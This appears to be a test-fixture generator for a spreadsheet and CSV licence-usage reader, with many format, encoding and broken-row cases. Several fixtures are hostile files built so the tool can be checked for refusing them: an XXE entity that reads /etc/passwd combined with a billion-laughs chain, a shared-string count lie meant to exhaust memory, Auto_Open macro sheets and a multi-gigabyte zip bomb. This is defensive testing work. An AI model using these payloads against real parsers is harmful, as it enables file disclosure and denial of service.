               '<office:automatic-styles>'
               '<number:date-style style:name="N37"><number:year number:style="long"/><number:text>-</number:text>'
               '<number:month number:style="long"/><number:text>-</number:text><number:day number:style="long"/>'
               '</number:date-style>'
               '<style:style style:name="ce1" style:family="table-cell" style:parent-style-name="Default" '
               'style:data-style-name="N37"/></office:automatic-styles>'
               '<office:body><office:spreadsheet>'
               + table("Customers", CUST_HEADERS, BASE_CUSTOMERS)
               + table("Transcripts", TRANS_HEADERS, BASE_TRANSCRIPTS)
               + "</office:spreadsheet></office:body></office:document-content>")
    styles = (f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-styles {ns} office:version="1.2">'
              '<office:styles><style:style style:name="Default" style:family="table-cell"/></office:styles>'
              '</office:document-styles>')
    manifest = ('<?xml version="1.0" encoding="UTF-8"?>\n'
                '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
                'manifest:version="1.2">'
                '<manifest:file-entry manifest:full-path="/" manifest:version="1.2" '
                'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
                '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
                '<manifest:file-entry manifest:full-path="styles.xml" manifest:media-type="text/xml"/>'
                '</manifest:manifest>')
    data = zip_bytes([("mimetype", "application/vnd.oasis.opendocument.spreadsheet"),
                      ("META-INF/manifest.xml", manifest), ("content.xml", content), ("styles.xml", styles)],
                     stored=("mimetype",))
    write("open_document.ods", data)
    return [dict(file="open_document.ods",
                 what="The baseline data as an OpenDocument spreadsheet (.ods, hand-written content.xml; dates as office:date-value)",
                 expect="read", partners=BASE_EXPECT)]


@case("lock_file")
def _():
    # Excel's owner file: a length byte, the user name padded to 54 bytes, then the name in UTF-16LE.
    user = "alice"
    data = bytes([len(user)]) + user.encode("ascii").ljust(53, b" ")
    data += struct.pack("<H", len(user)) + user.encode("utf-16-le")
    data = data.ljust(165, b"\x20")
    write("~$book.xlsx", data)
    return [dict(file="~$book.xlsx",
                 what="An Excel owner/lock file (165 bytes, not a zip) as Excel leaves next to an open book.xlsx",
                 expect="skipped")]


@case("hidden_file")
def _():
    sheets = [customers_sheet("Customers", [
        (1000099, "Dot Hidden GmbH", guid(99), "Invisible AG", "Exchange Online", 9999, "Paid", "DAP")]),
        transcripts_sheet("Transcripts", [
            (1000099, "x@dot.example", "X Y", MCSA, D(2017, 1, 1)),
            (1000099, "z@dot.example", "Z W", MCSA, D(2017, 1, 2))])]
    write(".hidden.xlsx", xlsx_bytes(sheets))
    return [dict(file=".hidden.xlsx",
                 what="A valid workbook (partner 1000099, gold-level data) whose name starts with a dot",
                 expect="skipped")]


@case("xml_doctype_entities")
def _():
    sheets = [customers_sheet("Customers", [
        (1000001, "Contoso Ltd", guid(1), "&lol9;", "Exchange Online", 2500, "Paid", "DAP")])]
    raw = xlsx_bytes(sheets)
    src = zipfile.ZipFile(io.BytesIO(raw))
    doctype = ('<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">'
               '<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
               + "".join(f'<!ENTITY lol{i} "' + f"&lol{i - 1};" * 10 + '">' for i in range(2, 10))
               + "]>\n")
    entries = []
    for n in src.namelist():
        data = src.read(n).decode("utf-8")
        if n == "xl/sharedStrings.xml":
            data = data.replace("\n", "\n" + doctype, 1)
            data = data.replace("&amp;lol9;", "&lol9;&xxe;")
        entries.append((n, data))
    write("xml_doctype_entities.xlsx", zip_bytes(entries))
    return [dict(file="xml_doctype_entities.xlsx",
                 what="sharedStrings.xml carries a DOCTYPE with a billion-laughs entity chain and an external entity (file:///etc/passwd) used in a customer name",
                 expect="refused",
                 note="calamine (quick-xml) expands no DTD entities: the undefined entity is an XML error when the workbook opens, so the file is refused with a calamine XML message. Any refusal passes; expanding entities or reading /etc/passwd never may.")]


@case("sst_unique_count_lie")
def _():
    sheets = [customers_sheet("Customers", [
        (1000001, "Contoso Ltd", guid(1), "Adatum Corporation", "Exchange Online", 2500, "Paid", "DAP")])]
    raw = xlsx_bytes(sheets)
    src = zipfile.ZipFile(io.BytesIO(raw))
    entries = []
    for n in src.namelist():
        data = src.read(n).decode("utf-8")
        if n == "xl/sharedStrings.xml":
            import re
            data = re.sub(r'uniqueCount="\d+"', 'uniqueCount="4000000000"', data)
            data = re.sub(r' count="\d+"', ' count="4000000000"', data)
        entries.append((n, data))
    write("sst_unique_count_lie.xlsx", zip_bytes(entries))
    return [dict(file="sst_unique_count_lie.xlsx",
                 what="A 2.7 KB workbook whose sharedStrings.xml claims uniqueCount=\"4000000000\": calamine 0.38 reserves that many Strings (96 GB) while opening, which aborts the process",
                 expect="refused", message_contains="strings",
                 note="The tool must look at <sst uniqueCount> (e.g. cap it by the part's uncompressed size: every <si> takes at least 7 bytes) before calling calamine.")]


# ---- text exports (.csv, .tsv): Partner Center downloads, Excel's CSV and Unicode Text saves ----
#
# A text file is one sheet without a name: its problems have sheet "" and the cell Excel shows
# when it opens the file. Partner Center's license-usage download has no Partner ID column: its
# partner comes from --partner-id (`args`), the folder holding it, or its own name.

PC_HEADERS = ["customerTenantId", "customerName", "productName", "workloadCode", "workloadName",
              "channel", "licensesActive", "licensesQualified", "processedDateTime"]


def delimited(rows: list[list], sep: str = ",", eol: str = "\r\n") -> str:
    """Rows as delimited text, quoted where a field needs it (RFC 4180, as Excel writes)."""
    out = io.StringIO()
    import csv
    w = csv.writer(out, delimiter=sep, lineterminator=eol, quoting=csv.QUOTE_MINIMAL)
    for r in rows:
        w.writerow(["" if v is None else v for v in r])
    return out.getvalue()


def utf16(text: str, order: str = "le", bom: bool = True) -> bytes:
    body = text.encode("utf-16-le" if order == "le" else "utf-16-be")
    mark = (b"\xff\xfe" if order == "le" else b"\xfe\xff") if bom else b""
    return mark + body


def pc_usage(rows: list[tuple], processed: str = "9/28/2017 12:00:00 AM") -> list[list]:
    """Partner Center license-usage rows: (tenant n, name, product, code, name, channel, active)."""
    out: list[list] = [PC_HEADERS]
    for n, name, product, code, wname, channel, active in rows:
        out.append([guid(n), name, product, code, wname, channel, active, active, processed])
    return out


PC_ROWS = [
    (401, "Adatum Corporation", "OFFICE 365 E3", "EXO", "Exchange", "Reseller", "1,500"),
    (402, "Fabrikam, Inc.", "OFFICE 365 E3 TRIAL", "EXO", "Exchange", "Reseller", 900),   # trial product
    (403, "Tailspin Toys", "OFFICE 365 E1", "EXO", "Exchange", "Direct", 700),
    (403, "Tailspin Toys", "YAMMER ENTERPRISE", "YAM", "Yammer", "Direct", 300),
    (404, "Wingtip Toys", "DYNAMICS 365 FOR SALES", "CRM", "Dynamics 365", "Reseller", 5000),  # not counted
]


@case("csv_partner_center_file_name")
def _():
    text = "\ufeff" + delimited(pc_usage(PC_ROWS))
    write("1000041-license-usage.csv", text.encode("utf-8"))
    return [dict(file="1000041-license-usage.csv",
                 what="Partner Center's license-usage download as it comes (UTF-8 with BOM, commas, customerTenantId/workloadCode/licensesActive/channel/processedDateTime, US date-times), no Partner ID column: the file's name starts with the partner id",
                 expect="read", partners=[P("1000041", 2200, 0, "none")],
                 report_text=["Fabrikam, Inc."],
                 note="channel without an Association column: every row is Transacting Partner. The TRIAL product is a trial (no SKU Type column); CRM is not a counted workload. Exchange: 1,500 + 700.")]


@case("csv_partner_center_folder")
def _():
    folder = os.path.join(OUT, "1000042 Northwind Traders")
    os.makedirs(folder, exist_ok=True)
    rows = [(411, "Coho Winery", "SHAREPOINT ONLINE (PLAN 1)", "SPO", "SharePoint", "Reseller", 2100),
            (412, "Coho Winery", "EXCHANGE ONLINE (PLAN 1)", "EXO", "Exchange", "Reseller", 400)]
    write(os.path.join(folder, "LicenseUsage.csv"),
          delimited(pc_usage(rows, "2017-09-28T00:00:00Z"), eol="\n").encode("utf-8"))
    return [dict(file="1000042 Northwind Traders",
                 what="A folder named after its partner holding a Partner Center download (UTF-8, no BOM, LF line ends, ISO date-times with Z): the folder's name gives the partner",
                 expect="read", partners=[P("1000042", 2100, 0, "none")])]


@case("csv_partner_id_flag")
def _():
    rows = [(421, "Lucerne Publishing", "OFFICE 365 E3", "EXO", "Exchange", "Reseller", 2600)]
    write("csv_partner_id_flag.csv", delimited(pc_usage(rows)).encode("utf-8"))
    return [dict(file="csv_partner_id_flag.csv",
                 what="A Partner Center download whose folder and name name no partner, run with --partner-id 1000043 (a partner checking itself)",
                 expect="read", args=["--partner-id", "1000043"], partners=[P("1000043", 2600, 0, "none")])]


@case("csv_no_partner")
def _():
    rows = [(431, "Margie's Travel", "OFFICE 365 E3", "EXO", "Exchange", "Reseller", 2600)]
    write("csv_no_partner.csv", delimited(pc_usage(rows)).encode("utf-8"))
    return [dict(file="csv_no_partner.csv",
                 what="A Partner Center download with nothing that tells whose it is (no Partner ID column, no --partner-id, no id in its folder or name)",
                 expect="read", partners=[], problems=[prob("", "1", "partner cannot be told")],
                 note="Nothing of it is counted; the problem (at the header row) says how to fix it.")]


@case("csv_german_semicolon_1252")
def _():
    rows = [["Partner-ID", "Partnername", "Kunden-ID", "Kundenname", "Arbeitslast", "Aktive Benutzer",
             "SKU-Typ", "Zuordnung", "Land"],
            ["1000045", "Müller Maschinenbau GmbH", "K-1", "Bäckerei Öztürk", "Exchange Online", "1.200",
             "Kostenpflichtig", "DPOR", "Deutschland"],
            ["1000045", "Müller Maschinenbau GmbH", "K-2", "Straßenbau Weiß", "Exchange Online", "900",
             "Kostenpflichtig", "Delegierter Administrator", "Deutschland"],
            ["1000045", "Müller Maschinenbau GmbH", "K-3", "Grüne Wiese", "SharePoint Online", "2.500",
             "Testversion", "DAP", "Deutschland"]]
    write("csv_german_semicolon_1252.csv", delimited(rows, sep=";").encode("cp1252"))
    return [dict(file="csv_german_semicolon_1252.csv",
                 what="German Excel's \"CSV (Trennzeichen-getrennt)\": Windows-1252 without BOM, semicolons, German headers and values, 1.200 for 1200",
                 expect="read", partners=[P("1000045", 2100, 0, "none", name="Müller Maschinenbau GmbH")],
                 report_text=["Bäckerei Öztürk", "Straßenbau Weiß"])]


def utf16_customers(pid: str, name: str) -> str:
    rows = [CUST_HEADERS,
            [pid, name, "T-1", "Björk Café", "Exchange Online", 1200, "Paid", "DAP"],
            [pid, name, "T-2", "Ålesund Fisk", "Exchange Online", 800, "Paid", "Transacting Partner"]]
    return delimited(rows, sep="\t")


@case("csv_utf16le_bom")
def _():
    write("csv_utf16le_bom.tsv", utf16(utf16_customers("1000046", "Björk & Söner AB")))
    return [dict(file="csv_utf16le_bom.tsv",
                 what="Excel's \"Unicode Text\": UTF-16 LE with a byte-order mark, tab-separated",
                 expect="read", partners=[P("1000046", 2000, 0, "none", name="Björk & Söner AB")],
                 report_text=["Björk Café"])]


@case("csv_utf16be_bom")
def _():
    write("csv_utf16be_bom.csv", utf16(utf16_customers("1000047", "Ærø Data ApS"), order="be"))
    return [dict(file="csv_utf16be_bom.csv",
                 what="UTF-16 BE with a byte-order mark, tab-separated, named .csv",
                 expect="read", partners=[P("1000047", 2000, 0, "none", name="Ærø Data ApS")])]


@case("csv_utf16le_no_bom")
def _():
    write("csv_utf16le_no_bom.tsv", utf16(utf16_customers("1000048", "Ørsted IT"), bom=False))
    return [dict(file="csv_utf16le_no_bom.tsv",
                 what="UTF-16 LE that lost its byte-order mark: told by its every-other-byte NULs",
                 expect="read", partners=[P("1000048", 2000, 0, "none", name="Ørsted IT")])]


@case("csv_pipe")
def _():
    rows = [CUST_HEADERS,
            ["1000049", "Proseware", "P-1", "Proseware, Inc.", "Skype for Business", 2050, "Paid", "DAP"]]
    write("csv_pipe.csv", delimited(rows, sep="|").encode("utf-8"))
    return [dict(file="csv_pipe.csv",
                 what="`|`-separated text, with a comma inside a value",
                 expect="read", partners=[P("1000049", 2050, 0, "none")])]


@case("csv_transcripts_us_dates")
def _():
    rows = [TRANS_HEADERS,
            ["1000050", "dan@proseware.com", "Dan Park", EX346, "5/3/2017"],
            ["1000050", "DAN@proseware.com", "Dan Park", EX347, "2017-06-01T00:00:00Z"],
            ["1000050", "anna@proseware.com", "Anna Lind", MCSA, "28.09.2017"],
            ["1000050", "otto@proseware.com", "Otto Berg", MCSA, "2017-10-02"]]  # after the as-of date
    write("csv_transcripts_us_dates.tsv", delimited(rows, sep="\t").encode("utf-8"))
    return [dict(file="csv_transcripts_us_dates.tsv",
                 what="A tab-separated LMS transcript export with month-first US dates, ISO date-times and German dates; a person spelled in two cases",
                 expect="read", partners=[P("1000050", 0, 2, "none")],
                 dates_passed=[dict(person_id="dan@proseware.com", credential_contains="70-346", date="2017-05-03"),
                               dict(person_id="dan@proseware.com", credential_contains="70-347", date="2017-06-01"),
                               dict(person_id="anna@proseware.com", credential_contains="MCSA", date="2017-09-28")])]


def dated_rows(pid: str, rows: list[tuple]) -> list[list]:
    out: list[list] = [["Partner ID", "Customer ID", "Workload", "Active Users", "Association",
                        "processedDateTime"]]
    for customer, workload, users, processed in rows:
        out.append([pid, customer, workload, users, "DAP", processed])
    return out


@case("csv_snapshots_one_file")
def _():
    rows = dated_rows("1000051", [
        ("T-1", "Exchange Online", 2500, "2017-08-31T00:00:00"),
        ("T-1", "Exchange Online", 1800, "2017-09-28T00:00:00"),
        ("T-1", "Exchange Online", 5000, "2017-10-31T00:00:00"),   # after the as-of date
        ("T-2", "Exchange Online", 400, "2017-08-31T00:00:00"),    # only in August: gone
    ])
    write("csv_snapshots_one_file.csv", delimited(rows).encode("utf-8"))
    return [dict(file="csv_snapshots_one_file.csv",
                 what="Three monthly snapshots in one file: the latest on or before 2017-09-30 is the partner's current state",
                 expect="read", partners=[P("1000051", 1800, 0, "none")],
                 note="T-1 counts September's 1,800 (not August's 2,500, not October's 5,000); T-2, only in August, is not in September's snapshot: gone, counted nowhere.")]


@case("csv_snapshots_across_files")
def _():
    folder = os.path.join(OUT, "1000052 Litware")
    os.makedirs(folder, exist_ok=True)
    for month, rows in [("08", [(501, "Contoso", "EXO", "Exchange", "Reseller", 2500),
                                (502, "Fabrikam", "EXO", "Exchange", "Reseller", 400)]),
                        ("09", [(501, "Contoso", "EXO", "Exchange", "Reseller", 1800),
                                (502, "Fabrikam", "EXO", "Exchange", "Reseller", 300)]),
                        ("10", [(501, "Contoso", "EXO", "Exchange", "Reseller", 5000)])]:
        processed = {"08": "8/31/2017 12:00:00 AM", "09": "9/28/2017 12:00:00 AM",
                     "10": "10/31/2017 12:00:00 AM"}[month]
        usage = [(n, name, "OFFICE 365 E3", code, wname, ch, users) for n, name, code, wname, ch, users in rows]
        write(os.path.join(folder, f"usage-2017-{month}.csv"),
              delimited(pc_usage(usage, processed)).encode("utf-8"))
    return [dict(file="1000052 Litware",
                 what="A partner's folder holding three monthly Partner Center downloads (August, September, October): snapshots across files never add up",
                 expect="read", partners=[P("1000052", 2100, 0, "none")],
                 note="September's 1,800 + 300 count; August's rows are earlier snapshots, October's is after the as-of date.")]


@case("csv_broken_rows")
def _():
    text = ("Partner ID,Customer ID,Workload,Active Users,Association\n"
            "1000053,A,Exchange Online,1000,DAP\n"
            "\n"                                                    # row 3: blank
            "1000053,B,Exchange Online,10\n"                        # row 4: a field short
            "1000053,C,Exchange Online,10,DAP,surplus\n"            # row 5: a field too many
            "1000053,\"D,Exchange Online,10,DAP\n"                  # row 6: a quote never closed...
            "1000053,E,Exchange Online,700,DAP\n"                   # ...until the next one (row 8)
            "1000053,F,Exchange Online,1\x000,DAP\n"                # row 8: a NUL byte in D8
            "1000053,G,\"Exchange Online\nand more\",10,DAP\n"      # row 9: a quoted line break
            "1000053,H,Exchange Online,300,DAP,,\n")                # row 10: empty extra fields
    write("csv_broken_rows.csv", text.encode("utf-8"))
    return [dict(file="csv_broken_rows.csv",
                 what="Broken lines: a row a field short, one a field too many, an unbalanced quote, a NUL byte, a quoted line break and a blank line; every broken row is a problem at the row Excel shows, and the rest is read",
                 expect="read", partners=[P("1000053", 2000, 0, "none")],
                 problems=[prob("", "4", "fields where the header has 5"), prob("", "5", "fields where the header has 5"),
                           prob("", "6", "quote"), prob("", "D8", "NUL")],
                 note="Row 6's quote runs into rows 7 and 8; the row is reported and the lines below it are read again as rows of their own. G's quoted line break keeps it on one row (its workload, with the break, is not counted). A + E + H = 1,000 + 700 + 300.")]


@case("csv_long_line")
def _():
    text = ("Partner ID,Customer ID,Workload,Active Users,Association\r\n"
            "1000054,A,Exchange Online,2000,DAP\r\n"
            "1000054,B,Exchange Online,7," + "x" * 300_000 + "\r\n"
            "1000054,C,Exchange Online,500,DAP\r\n")
    write("csv_long_line.csv", text.encode("utf-8"))
    return [dict(file="csv_long_line.csv",
                 what="A 300 KB line (far longer than any row of an export) between two good rows",
                 expect="read", partners=[P("1000054", 2500, 0, "none")],
                 problems=[prob("", "3", "runs on for more than")])]


@case("csv_unbalanced_quote_to_end")
def _():
    text = ("Partner ID,Customer ID,Workload,Active Users,Association\n"
            "1000055,A,Exchange Online,1000,DAP\n"
            "1000055,\"B,Exchange Online,10,DAP\n"
            + "".join(f"1000055,C{i},Exchange Online,500,DAP\n" for i in range(3)))
    write("csv_unbalanced_quote_to_end.csv", text.encode("utf-8"))
    return [dict(file="csv_unbalanced_quote_to_end.csv",
                 what="A quote opened on row 3 and never closed: the rest of the file would be one field",
                 expect="read", partners=[P("1000055", 2500, 0, "none")],
                 problems=[prob("", "3", "quote")])]


@case("csv_excel_sep_line")
def _():
    rows = [["Partner ID", "Customer ID", "Customer Name", "Workload", "Active Users", "SKU Type", "Association"],
            ["1000056", "N-1", "Nod Publishers, Ltd", "Exchange Online", "2,100", "Paid", "DAP"],
            ["1000056", "N-2", "Nod Publishers, Ltd", "Yammer", "n/a", "Paid", "DAP"]]
    write("csv_excel_sep_line.csv", ("sep=;\r\n" + delimited(rows, sep=";")).encode("utf-8"))
    return [dict(file="csv_excel_sep_line.csv",
                 what="Excel's `sep=;` hint line above a semicolon table (Excel hides the line: the header is row 1); a bad value on row 3",
                 expect="read", partners=[P("1000056", 2100, 0, "none")],
                 problems=[prob("", "E3", "not a number")])]


@case("csv_xlsx_saved_as_csv")
def _():
    write("csv_xlsx_saved_as_csv.csv", xlsx_bytes(base_sheets()))
    return [dict(file="csv_xlsx_saved_as_csv.csv",
                 what="valid_baseline.xlsx with a .csv name: read as the workbook it is",
                 expect="read", partners=BASE_EXPECT)]


@case("csv_binary")
def _():
    data = b"".join(struct.pack("<IdI", i, i * 0.5, 0) for i in range(400))
    write("csv_binary.csv", data)
    return [dict(file="csv_binary.csv",
                 what="Binary data named .csv",
                 expect="refused", message_contains="binary data")]


@case("csv_quoted_fields")
def _():
    rows = [CUST_HEADERS,
            ["1000057", "Wide World", "W-1", 'Fabrikam, "The Best" Inc.', "Exchange Online", 1500, "Paid", "DAP"],
            ["1000057", "Wide World", "W-2", "Coho\r\nWinery", "Exchange Online", 500, "Paid", "DPOR"]]
    write("csv_quoted_fields.csv", delimited(rows).encode("utf-8"))
    return [dict(file="csv_quoted_fields.csv",
                 what="Quoted fields holding the delimiter, doubled quotes and a line break",
                 expect="read", partners=[P("1000057", 2000, 0, "none")],
                 report_text=['Fabrikam, "The Best" Inc.', "Coho\r\nWinery"])]


@case("csv_title_line")
def _():
    rows = [["Partner ID", "Customer ID", "Workload", "Active Users", "Association"],
            ["1000058", "Q-1", "SharePoint Online", "2.400", "DAP"]]
    write("csv_title_line.csv", ("Northwind, license export, September 2017\r\n\r\n"
                                 + delimited(rows, sep=";")).encode("utf-8"))
    return [dict(file="csv_title_line.csv",
                 what="A title line with commas and a blank line above a semicolon header: the delimiter comes from the header line",
                 expect="read", partners=[P("1000058", 2400, 0, "none")])]


@case("csv_empty")
def _():
    write("csv_empty.csv", b"")
    return [dict(file="csv_empty.csv", what="An empty (0-byte) .csv file: a Partner Center download that failed",
                 expect="refused", message_contains="the file is empty",
                 note="An export of nothing still has its header row: an empty file is a download that failed, and says so (the run then evaluated no partner: exit code 5).")]


def png_bytes(width: int = 16, height: int = 16) -> bytes:
    """A real PNG image (RGB gradient), as an image viewer would show it."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    raw = b"".join(b"\x00" + bytes((x * 16 + y) % 256 for x in range(width) for _ in range(3))
                   for y in range(height))
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(raw, 9))
            + chunk(b"IEND", b""))


@case("not_inputs")
def _():
    write("image.png", png_bytes())
    write("notes.md", ("# Partner programme notes\n\nPartners report monthly. Customers, workloads and\n"
                       "active users come from Partner Center, see the table:\n\n"
                       "| partner | note |\n|---|---|\n| 1000001 | Contoso, checked |\n").encode("utf-8"))
    lines = []
    for i in range(40):
        text = f"record {i}: binary block,{i * 7},{'x' * 30}"
        lines.append(text.replace("x" * 3, "x\x00x", 1) if i % 8 == 0 else text)
    write("csv_damaged_nuls.csv", ("\r\n".join(lines) + "\r\n").encode("utf-8"))
    return [dict(file="image.png", what="A PNG image given as an input (named on its own, as `--input docs/email-partner.png`)",
                 expect="refused", message_contains="not a spreadsheet or text export: it is a PNG image",
                 note="One problem for the file, told by its first bytes; not a problem for every NUL byte of its compressed data, nor an empty report."),
            dict(file="notes.md", what="A Markdown text file (with commas and a table made of pipes) given as an input, like README.md",
                 expect="refused", message_contains="not a spreadsheet or text export",
                 note="Text, but no line of it is a header the tool knows and its name does not say it is an export: one problem for the file."),
            dict(file="csv_damaged_nuls.csv", what="A damaged .csv: 40 lines without a header, five of them with NUL bytes",
                 expect="refused", message_contains="binary data",
                 note="Nothing of it was read: one problem for the file, not one per NUL line followed by 'no header row'.")]


# ---- Excel 4.0 macro sheets: calamine refuses the whole workbook for one ----

MACRO_REL = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"


@case("macro_sheet_xlsx")
def _():
    sst = SharedStrings()
    sheets = base_sheets()
    parts = [(f"xl/worksheets/sheet{i}.xml", sheet_xml(sh, sst)) for i, sh in enumerate(sheets, 1)]
    macro = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
             f'<xm:macrosheet xmlns="{MAIN_NS}" xmlns:r="{REL_NS}" '
             f'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
             f'<sheetData><row r="1"><c r="A1" t="b"><f>ALERT("Monthly job")</f><v>1</v></c></row>'
             f'<row r="2"><c r="A2" t="b"><f>RETURN()</f><v>1</v></c></row></sheetData></xm:macrosheet>')
    wb_name, wb_xml = workbook_parts(sheets, False, True)[0]
    wb_xml = wb_xml.replace("</sheets>", '<sheet name="Macro1" sheetId="3" r:id="rId9"/></sheets>')
    wb_xml = wb_xml.replace("</workbook>",
                            '<definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName>'
                            '</definedNames></workbook>')
    rels_name, rels = workbook_parts(sheets, False, True)[1]
    rels = rels.replace("</Relationships>",
                        f'<Relationship Id="rId9" Type="{MACRO_REL}" Target="macrosheets/sheet1.xml"/>'
                        "</Relationships>")
    ct = content_types(len(sheets), True,
                       '<Override PartName="/xl/macrosheets/sheet1.xml" '
                       'ContentType="application/vnd.ms-excel.macrosheet+xml"/>')
    entries = [("[Content_Types].xml", ct), ("_rels/.rels", ROOT_RELS), (wb_name, wb_xml),
               (rels_name, rels), ("xl/styles.xml", STYLES_XML)] + parts
    entries += [("xl/macrosheets/sheet1.xml", macro), ("xl/sharedStrings.xml", sst.xml())]
    write("macro_sheet.xlsm", zip_bytes(entries))
    return [dict(file="macro_sheet.xlsm",
                 what="The baseline sheets and an Excel 4.0 macro sheet (xl/macrosheets/sheet1.xml, run by Auto_Open): calamine 0.38 refuses the whole workbook ('Unrecognized sheet:type')",
                 expect="read", partners=BASE_EXPECT, skipped_sheets=["Macro1"],
                 note="The macro sheet's relationship is relabelled in a copy of the zip held in memory; the other sheets are read and Run info lists Macro1 as an Excel 4.0 macro sheet, skipped.")]


def xlsb_record(typ: int, data: bytes = b"") -> bytes:
    """One BIFF12 record: its type and length as 7-bit varints, then its data."""
    def varint(n: int, most: int) -> bytes:
        out = bytearray()
        for _ in range(most):
            b = n & 0x7F
            n >>= 7
            out.append(b | (0x80 if n else 0))
            if not n:
                break
        return bytes(out)
    return varint(typ, 2) + varint(len(data), 4) + data


def wide(s: str) -> bytes:
    return struct.pack("<I", len(s)) + s.encode("utf-16-le")


def xlsb_sheet(rows: list[list]) -> bytes:
    """A worksheet part: dimensions, then rows of inline strings and numbers."""
    last_col = max(len(r) for r in rows) - 1
    out = xlsb_record(0x0081) + xlsb_record(0x0094, struct.pack("<IIII", 0, len(rows) - 1, 0, last_col))
    out += xlsb_record(0x0091)
    for r, row in enumerate(rows):
        out += xlsb_record(0x0000, struct.pack("<I", r) + b"\x00" * 13)
        for c, v in enumerate(row):
            if isinstance(v, (int, float)):
                out += xlsb_record(0x0005, struct.pack("<IId", c, 0, float(v)))
            else:
                out += xlsb_record(0x0006, struct.pack("<II", c, 0) + wide(str(v)))
    return out + xlsb_record(0x0092) + xlsb_record(0x0082)


@case("macro_sheet_xlsb")
def _():
    customers = [CUST_HEADERS] + [list(r) for r in BASE_CUSTOMERS]
    transcripts = [TRANS_HEADERS] + [[p, e, n, c, d.isoformat()] for p, e, n, c, d in BASE_TRANSCRIPTS]
    names = [("Customers", "rId1", "worksheets/sheet1.bin", f"{REL_NS}/worksheet"),
             ("Macro1", "rId2", "macrosheets/sheet1.bin", MACRO_REL),
             ("Transcripts", "rId3", "worksheets/sheet2.bin", f"{REL_NS}/worksheet")]
    book = xlsb_record(0x0083) + xlsb_record(0x008F)
    for i, (name, rid, _, _) in enumerate(names, 1):
        book += xlsb_record(0x009C, struct.pack("<II", 0, i) + wide(rid) + wide(name))
    book += xlsb_record(0x0090) + xlsb_record(0x0084)
    rels = "".join(f'<Relationship Id="{rid}" Type="{typ}" Target="{target}"/>' for _, rid, target, typ in names)
    rels = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            f'<Relationships xmlns="{PKG_REL_NS}">{rels}</Relationships>')
    root = ROOT_RELS.replace("xl/workbook.xml", "xl/workbook.bin")
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/>'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Override PartName="/xl/worksheets/sheet1.bin" ContentType="application/vnd.ms-excel.worksheet"/>'
          '<Override PartName="/xl/worksheets/sheet2.bin" ContentType="application/vnd.ms-excel.worksheet"/>'
          '<Override PartName="/xl/macrosheets/sheet1.bin" ContentType="application/vnd.ms-excel.macrosheet"/>'
          '</Types>')
    macro = xlsb_sheet([["=RETURN()"]])
    write("macro_sheet.xlsb", zip_bytes([
        ("[Content_Types].xml", ct), ("_rels/.rels", root), ("xl/workbook.bin", book),
        ("xl/_rels/workbook.bin.rels", rels), ("xl/worksheets/sheet1.bin", xlsb_sheet(customers)),
        ("xl/worksheets/sheet2.bin", xlsb_sheet(transcripts)), ("xl/macrosheets/sheet1.bin", macro)]))
    return [dict(file="macro_sheet.xlsb",
                 what="An Excel binary workbook (.xlsb) with the baseline sheets and an Excel 4.0 macro sheet between them (xl/macrosheets/sheet1.bin): calamine 0.38 refuses the whole workbook ('Unrecognized BoundSheet8:dt')",
                 expect="read", partners=BASE_EXPECT, skipped_sheets=["Macro1"],
                 note="As for the .xlsm: the macro sheet is set aside and named on Run info.")]


# ---- bombs (streamed: the script never holds the inflated data) ----

def stream_entry(zf: zipfile.ZipFile, name: str, chunks: Iterator[bytes]) -> None:
    zi = zinfo(name)
    with zf.open(zi, "w", force_zip64=True) as w:
        for ch in chunks:
            w.write(ch)


def repeat(unit: bytes, total: int, chunk: int = 1 << 22) -> Iterator[bytes]:
    """Yield `unit` repeated until `total` bytes (rounded down to whole units)."""
    n_units = total // len(unit)
    per = max(1, chunk // len(unit))
    block = unit * per
    while n_units >= per:
        yield block
        n_units -= per
    if n_units:
        yield unit * n_units


def workbook_shell(zf: zipfile.ZipFile, sheet_names: list[str], sst: bool) -> None:
    sheets = [Sheet(n) for n in sheet_names]
    for name, data in [("[Content_Types].xml", content_types(len(sheets), sst)), ("_rels/.rels", ROOT_RELS)] \
            + workbook_parts(sheets, False, sst) + [("xl/styles.xml", STYLES_XML)]:
        zf.writestr(zinfo(name), data.encode())


def inline_row(values: list) -> bytes:
    out = []
    for v in values:
        if isinstance(v, (int, float)):
            out.append(f"<c><v>{v}</v></c>")
        else:
            out.append(f'<c t="inlineStr"><is><t>{escape(v)}</t></is></c>')
    return ("<row>" + "".join(out) + "</row>").encode()


@case("zip_bomb", heavy=True)
def _():
    meta = [dict(file="zip_bomb.xlsx",
                 what="~4.8 MB file whose Customers sheet XML inflates to 4.25 GiB (zip64 sizes): ~330,000 identical customer rows (1 active user each) then 4.15 GiB of whitespace",
                 expect="refused", message_contains="inflate",
                 note="The zip central directory declares the 4.25 GiB: check declared uncompressed sizes (as u64) before reading.")]
    if not WRITE_ENABLED:
        return meta
    # 4.25 GiB of sheet XML: past the 32-bit size field, so the sizes need zip64.
    # Deflate compresses a run of one byte ~1030:1 but a repeated 200-byte row only ~250:1
    # (the match distance costs extra bits), so: 100 MiB of real rows (~330,000 customer rows
    # of 1 active user each), then whitespace between rows (legal, ignored by XML readers).
    total = (4 << 30) + (256 << 20)
    rows_bytes = 100 << 20
    head = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
